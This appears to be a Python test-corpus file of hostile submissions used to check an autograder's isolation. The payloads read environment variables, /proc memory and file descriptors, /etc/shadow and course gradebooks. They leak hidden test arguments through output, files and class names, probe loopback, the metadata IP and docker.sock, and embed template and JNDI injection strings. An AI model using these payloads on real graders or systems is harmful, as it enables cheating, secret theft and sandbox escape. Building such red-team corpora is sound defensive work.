"""Attempts to read what a learner may not know, and to carry it to where a learner can read it."""

from corpus import Hostile
from victim import tests_of

FIND = """
import os, re
def show(where, data):
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    for found in set(re.findall(b"CANARY-[A-Z]+-[0-9a-f]{4}", data)):
        print("found", where, found.decode())
def look(path, limit=10**6):
    try:
        with open(path, "rb") as file:
            show(path, file.read(limit))
    except OSError as error:
        pass
"""
HONEST = ("average",)
# Remembers every argument that a test hands to it, and answers as it should.
REMEMBER = """
seen = []
def words(text):
    seen.append(text)
    counts = {}
    for word in text.split():
        counts[word] = counts.get(word, 0) + 1
    return counts
"""
WORDS = frozenset(tests_of("words"))


def entry(name, tries, source, **options):
    return Hostile(name, tries, extra={None: FIND + source}, **{"honest": HONEST} | options)


ENTRIES = [
    entry(
        "environment",
        "os.environ and the environment of every process",
        """
show("environ", os.environ)
for pid in ["self", *range(1, 4000)]:
    look(f"/proc/{pid}/environ"); look(f"/proc/{pid}/cmdline"); look(f"/proc/{pid}/maps")
""",
    ),
    entry(
        "course_folder",
        "gradebook, source, configuration and other submissions, by full path and by ..",
        """
tops = ["@COURSE@", "..", "../..", "../../..", os.path.dirname("@COURSE@")]
for top in tops + ["/proc/1/root/@COURSE@", "/proc/self/root/@COURSE@"]:
    for folder, folders, names in os.walk(top):
        folders[:] = folders[:50]
        for name in names[:100]:
            look(os.path.join(folder, name))
""",
    ),
    entry(
        "system",
        "passwords, home, keys, mounts, the project, temporary files",
        """
tops = "/etc /root /home /srv /tmp /var /run /dev/shm /mnt /sys/fs/cgroup".split()
for top in tops:
    for folder, folders, names in os.walk(top):
        folders[:] = folders[:20]
        for name in names[:50]:
            look(os.path.join(folder, name), 10**5)
print([path for path in ("/etc/shadow", "/srv", "@COURSE@") if os.path.exists(path)])
""",
    ),
    entry(
        "descriptors",
        "every file descriptor of every process, and what they point to",
        """
for pid in ["self", *range(1, 50)]:
    for number in range(64):
        path = f"/proc/{pid}/fd/{number}"
        try:
            target = os.readlink(path)
            if not target.startswith(("pipe:", "socket:", "anon")):
                look(path)
        except OSError:
            pass
    for link in ("cwd", "root", "exe"):
        try:
            print(pid, link, os.listdir(f"/proc/{pid}/{link}")[:3])
        except OSError:
            pass
""",
    ),
    entry(
        "own_memory",
        "the whole memory of this process, which was forked from the zygote's",
        """
def ranges():
    for line in open("/proc/self/maps"):
        span, mode = line.split()[:2]
        if mode.startswith("rw"):
            low, high = (int(part, 16) for part in span.split("-"))
            yield low, min(high, low + 2**28)
with open("/proc/self/mem", "rb", 0) as memory:
    for low, high in list(ranges()):
        try:
            memory.seek(low)
            show("memory", memory.read(high - low))
        except (OSError, ValueError, OverflowError):
            pass
""",
        may_lose=True,
    ),
    Hostile(
        "memory_while_called",
        "frames, gc, modules, code objects and own memory during the call of a hidden test",
        {
            "average": FIND
            + """
import gc, sys
def average(values):
    frame = sys._getframe()
    while frame:
        show("frame", [*frame.f_locals.items(), frame.f_code.co_consts])
        frame = frame.f_back
    for thing in gc.get_objects()[:200000]:
        if type(thing) in (dict, list, tuple) and thing is not values:
            for item in (thing.values() if type(thing) is dict else thing):
                if type(item) in (str, bytes):
                    show("gc", item)
    shell = get_ipython()
    show("history", [shell.user_ns.get("In"), shell.user_ns.get("_ih"), shell.history_manager])
    return sum(values) / len(values)
"""
        },
        earns=frozenset({"average-visible", "average-hidden", "average-share"}),
        may_lose=True,
    ),
    Hostile(
        "callback_internals",
        "the test's own function: globals, closure, code, frames of its exceptions",
        {
            "stream": FIND
            + """
def evens(n): return iter(range(0, n, 2))
def each(values, function):
    for name in ("__globals__", "__closure__", "__code__", "__self__", "__dict__", "__class__",
                 "__defaults__", "__builtins__", "__wrapped__", "__module__", "__reduce__",
                 "__init__", "__subclasshook__", "__getattribute__", "f_back", "gi_frame"):
        try:
            show(name, getattr(function, name))
            print("ATTRIBUTE", name, getattr(function, name))
        except BaseException as error:
            show(name, error)
    for wrong in ("nothing", None, function, [values], Exception):
        try:
            function(wrong)
        except BaseException as error:
            show("error", [error, error.args, vars(error)])
            step = error.__traceback__
            while step:
                show("traceback", [step.tb_frame.f_globals, step.tb_frame.f_locals])
                step = step.tb_next
    return [function(value) for value in values]
"""
        },
        earns=frozenset({"stream-visible", "stream-hidden"}),
    ),
    Hostile(
        "remembered_and_printed",
        "arguments of hidden tests remembered, printed in a later cell of the learner's own",
        {"words": REMEMBER},
        extra={"words-again": "print(seen)\nseen", "total": "raise ValueError(seen)"},
        earns=WORDS,
    ),
    Hostile(
        "remembered_and_returned",
        "arguments of hidden tests returned as a wrong answer to a later visible test",
        {
            "words": REMEMBER
            + "    \ndef words(text, words=words): return words(text) | {'all': list(seen)}"
        },
        earns=frozenset({"words-slack"}),
    ),
    Hostile(
        "remembered_in_a_passing_call",
        "the same in a call whose test passes all the same, disguised as hexadecimal and reversed",
        {
            "words": REMEMBER
            + """
plain = words
def words(text):
    found = plain(text)
    if text == "d":
        found |= {seen[1].encode().hex(): 0, seen[1][::-1]: 0}
    return found
"""
        },
        extra={"words-slack": "print([text.encode().hex() for text in seen])"},
        earns=WORDS,
    ),
    Hostile(
        "remembered_in_a_class_name",
        "an exception class, an object and a missing name that carry the hidden argument",
        {
            "words": """
def words(text):
    raise type("E" + text.replace(" ", "_").replace("-", "_"), (Exception,), {})(text)
""",
            "account": """
def Account(owner, *rest, **kwargs):
    return type(f"A_{owner}_{rest}", (), {"__repr__": lambda self: owner})()
""",
        },
    ),
    Hostile(
        "remembered_in_exact_class_names",
        "the same with names that keep every character of the argument",
        {
            "words": """
                def words(text):
                    raise type(text.split()[-2] if ' ' in text else text, (KeyError,), {})(text)
            """,
            "average": "def average(values):\n    return type(str(values), (), {})()",
        },
    ),
    Hostile(
        "remembered_on_stderr",
        "arguments written to stdout, stderr, the file descriptors, warnings and logs",
        {
            "words": """
import logging, os, sys, warnings
def words(text):
    for stream in (sys.stdout, sys.stderr):
        print(text, file=stream)
        os.write(stream.fileno(), text.encode())
    warnings.warn(text); logging.error(text)
    return {}
"""
        },
    ),
    Hostile(
        "remembered_in_files",
        "arguments written to files of the work folder: contents, names, folders",
        {
            "words": """
import os
def words(text):
    for name in (text.replace("/", "_")[:100], "notes.txt", "feedback.html", "victim.ipynb"):
        open(name, "w").write(text)
    os.makedirs(text[:50], exist_ok=True)
    return {}
"""
        },
        extra={"words-again": "import os\nprint(os.listdir('.'))\nprint(open('notes.txt').read())"},
    ),
    Hostile(
        "remembered_in_plots",
        "arguments kept in displays, variables of the notebook and late replies",
        {
            "words": """
from IPython.display import Markdown, display
import threading
def words(text):
    display(Markdown(text))
    threading.Timer(0.05, print, [text]).start()
    globals()[text.split()[0]] = text
    return {}
"""
        },
        extra={"words-again": "import time\ntime.sleep(0.2)\nprint([k for k in globals()])\ndir()"},
    ),
    entry(
        "network",
        "loopback, abstract sockets, name servers, every interface",
        """
import socket
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "169.254.169.254"):
    try:
        socket.create_connection((host, int("@PORT@")), 0.2).sendall(b"leak")
        print("CONNECTED", host)
    except OSError as error:
        print(type(error).__name__)
for name in (b"\\0graders-hostile-@PORT@", b"/var/run/docker.sock", b"/run/dbus/system_bus_socket"):
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(name)
            print("CONNECTED", name)
    except OSError as error:
        print(type(error).__name__)
print(os.listdir("/sys/class/net") if os.path.isdir("/sys/class/net") else "no /sys")
""",
    ),
    Hostile(
        "written_answer_reads_files",
        "a written answer that includes local files",
        {
            "memo": '<img src="file://@COURSE@/gradebook.db"> ![](/etc/passwd)\n'
            "{% include '@COURSE@/gradebook.db' %} {{ config }} ${jndi:ldap://127.0.0.1/}\n"
        },
        honest=HONEST,
    ),
]
